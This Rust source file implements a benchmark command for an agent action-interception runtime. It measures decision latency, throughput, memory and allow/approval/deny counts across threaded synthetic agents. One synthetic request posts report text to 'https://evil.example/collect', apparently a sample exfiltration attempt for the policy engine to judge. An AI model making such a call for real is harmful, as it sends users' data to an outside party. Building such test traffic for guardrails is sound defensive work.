//! `maais bench`: how fast this machine decides and records.
//!
//! Every decision is on the disk before it is counted. Nothing is compared here: side-by-side
//! measurements live in `benches/`.

use std::fs;
use std::process::ExitCode;
use std::sync::Arc;
use std::time::{Duration, Instant};

use maais_runtime::core::decision::Effect;
use maais_runtime::core::request::ActionRequest;
use maais_runtime::{Config, Runtime};
use serde_json::{Value, json};

use super::{Done, print_json};
use crate::cli::Bench;
use crate::term::{DIM, HEAD, paint, say};

/// One agent's measurements.
struct Run {
    latencies: Vec<Duration>,
    effects: [u64; 3],
}

/// Lets every agent act in a thread of its own and reports.
pub(crate) fn run(args: &Bench) -> Done {
    let folder = match &args.dir {
        Some(dir) => tempfile::Builder::new().prefix("maais-bench-").tempdir_in(dir)?,
        None => tempfile::Builder::new().prefix("maais-bench-").tempdir()?,
    };
    let config = Config { policies: args.policies.clone(), ..Config::at(folder.path()) };
    let runtime = Arc::new(Runtime::open(config)?);
    let progress = progress(u64::from(args.agents) * u64::from(args.actions), args.json);
    let begun = Instant::now();
    let runs: Vec<Run> = std::thread::scope(|scope| {
        let threads: Vec<_> = (0..args.agents)
            .map(|agent| {
                let (runtime, progress) = (&runtime, &progress);
                scope.spawn(move || one_agent(runtime, agent, args.actions, progress))
            })
            .collect();
        threads.into_iter().filter_map(|thread| thread.join().ok()).collect()
    });
    let elapsed = begun.elapsed();
    progress.finish_and_clear();
    let report = report(args, &runtime, &runs, elapsed);
    if args.json {
        print_json(&report)?;
    } else {
        print(&report);
    }
    Ok(ExitCode::SUCCESS)
}

fn progress(total: u64, hidden: bool) -> indicatif::ProgressBar {
    if hidden {
        return indicatif::ProgressBar::hidden();
    }
    let style =
        indicatif::ProgressStyle::with_template("{bar:40} {pos}/{len} decisions, {per_sec}, {eta} left");
    let bar = indicatif::ProgressBar::new(total);
    match style {
        Ok(style) => bar.with_style(style),
        Err(_) => bar,
    }
}

fn one_agent(runtime: &Runtime, agent: u32, actions: u32, progress: &indicatif::ProgressBar) -> Run {
    let mut run = Run { latencies: Vec::with_capacity(actions as usize), effects: [0; 3] };
    for number in 0..actions {
        let Ok(request) = request(runtime, agent, number) else {
            continue;
        };
        let begun = Instant::now();
        let decision = runtime.intercept(request);
        run.latencies.push(begun.elapsed());
        if let Some(count) = run.effects.get_mut(decision.effect as usize) {
            *count += 1;
        }
        if number % 64 == 63 {
            progress.inc(64);
        }
    }
    run
}

/// A mix of what agents do: mostly tools, some reads, queries and calls; about half a kilobyte each; many
/// targets, so that limits do not stop the measurement.
fn request(
    runtime: &Runtime,
    agent: u32,
    number: u32,
) -> Result<ActionRequest, maais_runtime::core::request::RequestError> {
    let page = number / 16;
    let text = "quarterly report of the sales team with figures, notes and open questions ".repeat(4);
    let (kind, target, parameters) = match number % 8 {
        0 => ("file_read", format!("reports/{page}.md"), json!({ "path": format!("reports/{page}.md") })),
        1 => (
            "database_query",
            format!("orders_{page}"),
            json!({ "query": format!("SELECT * FROM orders WHERE id = {number}") }),
        ),
        2 => (
            "api_call",
            format!("crm_{page}"),
            json!({ "url": format!("http://crm.internal/v1/items/{number}") }),
        ),
        3 => (
            "tool_call",
            "http_request".to_owned(),
            json!({ "url": "https://evil.example/collect", "data": text }),
        ),
        4 => (
            "file_write",
            format!("out/{page}.txt"),
            json!({ "path": format!("out/{page}.txt"), "content": text }),
        ),
        _ => (
            "tool_call",
            format!("summarize_{page}"),
            json!({ "text": text, "number": number, "style": "short" }),
        ),
    };
    let value = json!({
        "agent_id": format!("bench-{agent}"), "action_type": kind, "target": target,
        "parameters": parameters, "declared_goal": "measure this machine",
    });
    ActionRequest::from_value(value, runtime.defaults())
}

fn report(args: &Bench, runtime: &Runtime, runs: &[Run], elapsed: Duration) -> Value {
    let mut latencies: Vec<Duration> = runs.iter().flat_map(|run| run.latencies.iter().copied()).collect();
    latencies.sort_unstable();
    let micros = |time: Duration| (time.as_secs_f64() * 1e7).round() / 10.0;
    let at = |share: f64| {
        latencies.get(((latencies.len() as f64 * share) as usize).min(latencies.len().saturating_sub(1)))
    };
    let percentile = |share: f64| at(share).copied().map_or(0.0, micros);
    let total: Duration = latencies.iter().sum();
    let count = latencies.len();
    let effect = |effect: Effect| runs.iter().filter_map(|run| run.effects.get(effect as usize)).sum::<u64>();
    let (resident, peak) = memory();
    let health = runtime.health();
    json!({
        "agents": args.agents,
        "actions": count,
        "average_us": micros(total.checked_div(u32::try_from(count.max(1)).unwrap_or(u32::MAX)).unwrap_or_default()),
        "p50_us": percentile(0.50),
        "p90_us": percentile(0.90),
        "p99_us": percentile(0.99),
        "p999_us": percentile(0.999),
        "max_us": latencies.last().copied().map_or(0.0, micros),
        "throughput_per_s": (count as f64 / elapsed.as_secs_f64()).round(),
        "elapsed_s": elapsed.as_secs_f64(),
        "memory_mib": resident,
        "memory_peak_mib": peak,
        "cache_hit_rate": (health.cache.hit_rate() * 1e4).round() / 1e4,
        "allowed": effect(Effect::Allow),
        "needs_approval": effect(Effect::RequireApproval),
        "denied": effect(Effect::Deny),
        "log": "durable: fdatasync before every answer",
        "rules": health.rules,
    })
}

fn print(report: &Value) {
    let number = |name: &str| report.get(name).and_then(Value::as_f64).unwrap_or(0.0);
    let row = |name: &str, value: String| say!("  {name:<16} {value}");
    let count = number("actions");
    say!(
        "{} {count} decisions of {} agents, {}",
        paint(HEAD, "bench"),
        number("agents"),
        paint(DIM, report.get("log").and_then(Value::as_str).unwrap_or_default())
    );
    row("average", format!("{:.1} µs", number("average_us")));
    row("p50", format!("{:.1} µs", number("p50_us")));
    row("p99", format!("{:.1} µs", number("p99_us")));
    row("p99.9", format!("{:.1} µs", number("p999_us")));
    row("slowest", format!("{:.1} µs", number("max_us")));
    row("throughput", format!("{:.0} decisions/s", number("throughput_per_s")));
    row("memory", format!("{:.1} MiB (peak {:.1})", number("memory_mib"), number("memory_peak_mib")));
    row("cache hit rate", format!("{:.1} %", number("cache_hit_rate") * 100.0));
    row(
        "decisions",
        format!(
            "{} allowed, {} need approval, {} denied",
            number("allowed"),
            number("needs_approval"),
            number("denied")
        ),
    );
}

/// Resident memory of this process and its peak in MiB, as far as the system tells.
fn memory() -> (f64, f64) {
    let status = fs::read_to_string("/proc/self/status").unwrap_or_default();
    let field = |name: &str| {
        let line = status.lines().find_map(|line| line.strip_prefix(name))?;
        line.split_whitespace().next()?.parse::<f64>().ok()
    };
    let mib = |kib: Option<f64>| (kib.unwrap_or(0.0) / 102.4).round() / 10.0;
    (mib(field("VmRSS:")), mib(field("VmHWM:")))
}
